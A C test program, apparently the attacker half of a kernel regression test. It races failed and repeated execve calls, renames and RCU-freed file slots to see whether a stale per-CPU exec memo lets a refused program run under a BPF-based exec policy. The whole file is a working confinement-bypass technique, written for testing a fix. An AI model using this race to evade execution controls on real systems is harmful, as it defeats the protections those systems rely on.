/* xmemo_atk [--spin] D N WAIT: vm/t_bpf_exec_memo's confined attacker, a
 * failed execve's exec memo read stale by the next execve. D holds a/F (an
 * allowed program) and b/ (F's refused home). Each try, pinned to CPU 0:
 * (1) hold a/F open for writing and execve it: its exec open keeps a memo
 * of its struct file P, then deny_write_access fails (ETXTBSY) and P is
 * freed; (2) wait for RCU to free P, open /dev/null (it takes the
 * writer's slot) and rename a/F -> b/F (the same dentry); (3) execve b/F:
 * its exec open gets P again. If bprm_check took the old memo, the refused
 * program runs and prints DENIED-EXEC-RAN.
 *
 * Default (D on 9p, WAIT in microseconds, slept): step 3 execs
 * D/sub/../b/F, whose lookup of sub sleeps in a 9p RPC, and xmemo_watch
 * (reading /tmp/atk.pid) moves the task to CPU 1 before its exec open and
 * back to CPU 0 before bprm_check: a memo kept per CPU and dropped only on
 * the exec open's own CPU was read there.
 * --spin (D on tmpfs, WAIT in milliseconds, a busy loop: no syscall, no
 * sleep): the task stays on CPU 0, and a try in which it is never switched
 * out (getrusage RUSAGE_THREAD) leaves the old memo live by the switch
 * rule: only the exec open's drop of it stops the refused program.
 *
 * Exit 1 after N refused tries, with counts on stderr:
 * "atk: N tries, step1 ETXTBSY E, without a switch K, step3: ERR xM". */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE   /* sched_setaffinity, CPU_SET */
#endif
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <time.h>
#include <sys/resource.h>

static void pin(int cpu)
{
	cpu_set_t s;
	CPU_ZERO(&s);
	CPU_SET(cpu, &s);
	if (sched_setaffinity(0, sizeof s, &s))
		perror("setaffinity");
}

static long switches(void)
{
	struct rusage r;
	getrusage(RUSAGE_THREAD, &r);
	return r.ru_nvcsw + r.ru_nivcsw;
}

static void spin_ms(long ms)
{
	struct timespec t0, t;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do
		clock_gettime(CLOCK_MONOTONIC, &t);
	while ((t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000 < ms);
}

static int spin;    /* --spin */
static long wait_for;

/* Long enough for RCU to free what was closed: slept, or spun. */
static void wait_rcu(void)
{
	if (spin) {
		spin_ms(wait_for);
	} else {
		struct timespec t = { wait_for / 1000000, (wait_for % 1000000) * 1000 };
		nanosleep(&t, 0);
	}
}

/* /tmp/atk.pid for xmemo_watch, and pins: F's dentry and its directories
 * (9p cache=none drops an unreferenced dentry). */
static int watched(const char *D, const char *a)
{
	char ad[512], bd[512];
	snprintf(ad, sizeof ad, "%s/a", D);
	snprintf(bd, sizeof bd, "%s/b", D);
	if (open(ad, O_PATH) < 0 || open(bd, O_PATH) < 0 || open(a, O_RDONLY) < 0) {
		perror("pins");
		return -1;
	}
	FILE *f = fopen("/tmp/atk.pid", "w");
	if (!f)
		return -1;
	fprintf(f, "%d\n", getpid());
	fclose(f);
	return 0;
}

int main(int argc, char **argv)
{
	spin = argc > 1 && !strcmp(argv[1], "--spin");
	if (argc < 4 + spin)
		return 2;
	const char *D = argv[1 + spin];
	int n = atoi(argv[2 + spin]);
	wait_for = atol(argv[3 + spin]);
	char a[512], b[512], step3[512];
	snprintf(a, sizeof a, "%s/a/F", D);
	snprintf(b, sizeof b, "%s/b/F", D);
	snprintf(step3, sizeof step3, spin ? "%s/b/F" : "%s/sub/../b/F", D);
	pin(0);
	if (!spin && watched(D, a) < 0)
		return 2;
	char *av[] = { "F", "DENIED-EXEC-RAN", 0 };
	char *ev[] = { 0 };
	int e1 = 0, still = 0, e3[200] = { 0 };
	for (int i = 0; i < n; i++) {
		if (!spin)
			pin(0);   /* xmemo_watch moved it */
		long s0 = switches();
		int w = open(a, O_WRONLY);
		if (w < 0) {
			perror("open w");
			return 2;
		}
		execve(a, av, ev);
		if (errno == ETXTBSY)
			e1++;
		close(w);
		wait_rcu();
		int d = open("/dev/null", O_RDONLY);
		if (rename(a, b)) {
			perror("rename");
			return 2;
		}
		if (!spin)
			wait_rcu();
		execve(step3, av, ev);
		int e = errno;
		if (e < 200)
			e3[e]++;
		if (switches() == s0)
			still++;
		rename(b, a);
		close(d);
	}
	fprintf(stderr, "atk: %d tries, step1 ETXTBSY %d, without a switch %d, step3:", n, e1, still);
	for (int k = 0; k < 200; k++)
		if (e3[k])
			fprintf(stderr, " %s x%d", strerror(k), e3[k]);
	fprintf(stderr, "\n");
	return 1;
}
